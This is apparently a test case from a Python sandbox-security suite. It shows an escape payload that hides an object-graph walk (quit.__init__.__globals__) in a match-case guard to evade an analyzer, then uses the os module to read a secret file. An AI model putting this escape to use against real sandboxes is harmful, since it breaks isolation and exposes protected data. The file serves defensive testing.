# class: object graph walk
# technique: a forbidden attribute in the guard of a case
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
match 1:
    case 1 if (g := quit.__init__.__globals__):
        pass
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
